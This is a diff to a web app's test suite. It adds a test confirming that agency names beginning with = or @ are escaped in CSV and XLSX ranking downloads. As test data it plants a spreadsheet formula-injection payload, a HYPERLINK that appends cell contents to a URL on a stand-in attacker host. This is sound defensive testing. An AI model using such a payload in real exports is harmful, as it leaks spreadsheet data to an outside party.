@@ -5,6 +5,7 @@ import { createTestApp, csrfFrom, loginAs, postForm } from "./http.js";
 import request from "supertest";
 import path from "node:path";
 import express from "express";
+import ExcelJS from "exceljs";
 import { errorHandler } from "../src/web/error-handler.js";
 import { createLogger } from "../src/logger.js";
 import { seedDemo } from "../seeds/demo.js";
@@ -269,5 +270,39 @@ describe("finding 13: the role and the scope are checked before the body", () =>
     await db("bloc_memberships").insert({ bloc_id: other, agency_id: foreign, joined_year: 2022 });
     expect((await postForm(sec, "/account/password", "/blocs/noichinh-tq/agencies/ngoai-khoi/leave", { year: "abc" })).status).toBe(404);
     expect((await postForm(sec, "/account/password", "/blocs/noichinh-tq/agencies/ngoai-khoi", { name: "" })).status).toBe(404);
+  });
+});
+
+describe("finding 4: user text cannot become a formula in CSV or XLSX downloads", () => {
+  it("when an agency name starts with = or @, then ranking.csv marks it as text and ranking.xlsx keeps it a text cell", async () => {
+    const evil = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")';
+    const original = (await db("agencies").where({ code: "thads" }).first("name")).name;
+    await db("agencies").where({ code: "thads" }).update({ name: evil });
+    await db("year_agencies").where({ agency_id: await idOf("agencies", { code: "thads" }) }).update({ name: evil });
+    try {
+      const sec = await loginAs(app, "thuongtruc");
+      const Y = "/blocs/noichinh-tq/years/2022";
+      const csv = await sec.get(`${Y}/ranking.csv`);
+      expect(csv.status).toBe(200);
+      const fields = csv.text.split(/\r\n/).flatMap((line) => line.split(";"));
+      expect(fields.some((f) => /^"?[=+@]/.test(f))).toBe(false);
+      expect(csv.text).toContain(`'=HYPERLINK(""http://ke-xau.example/?d=""&A1,""Bấm vào đây"")`);
+      const xlsx = await sec.get(`${Y}/ranking.xlsx`).buffer(true).parse((res, cb) => {
+        const chunks: Buffer[] = [];
+        res.on("data", (c: Buffer) => chunks.push(c));
+        res.on("end", () => cb(null, Buffer.concat(chunks)));
+      });
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(xlsx.body as Buffer);
+      const cells: ExcelJS.Cell[] = [];
+      book.worksheets[0]!.eachRow((row) => row.eachCell((c) => cells.push(c)));
+      const cell = cells.find((c) => String(c.value).includes("HYPERLINK"));
+      expect(cell?.type).toBe(ExcelJS.ValueType.String);
+      expect(cell?.value).toBe(evil);
+      expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
+    } finally {
+      await db("agencies").where({ code: "thads" }).update({ name: original });
+      await db("year_agencies").where({ agency_id: await idOf("agencies", { code: "thads" }) }).update({ name: original });
+    }
   });
 });
